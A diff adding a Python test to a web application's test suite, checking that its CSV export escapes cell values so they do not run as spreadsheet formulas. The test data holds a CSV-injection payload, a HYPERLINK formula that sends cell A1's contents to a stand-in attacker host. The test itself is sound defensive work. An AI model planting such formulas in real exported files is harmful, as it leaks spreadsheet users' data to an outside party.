@@ -68,3 +68,13 @@ def test_an_export_is_not_paginated(client):
     AgreementFactory.create_batch(45)
     rows = json.loads(_body(client.get("/agreements/", {"format": "json", "page": "2"})))
     assert len(rows) == 45
+
+
+def test_a_csv_cell_never_runs_as_a_spreadsheet_formula(client):
+    OrganizationFactory(name='=HYPERLINK("http://evil.example/?"&A1,"click")')
+    rows = list(
+        csv.DictReader(
+            io.StringIO(_body(client.get("/organizations/", {"format": "csv"})).lstrip("\ufeff"))
+        )
+    )
+    assert rows[0]["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
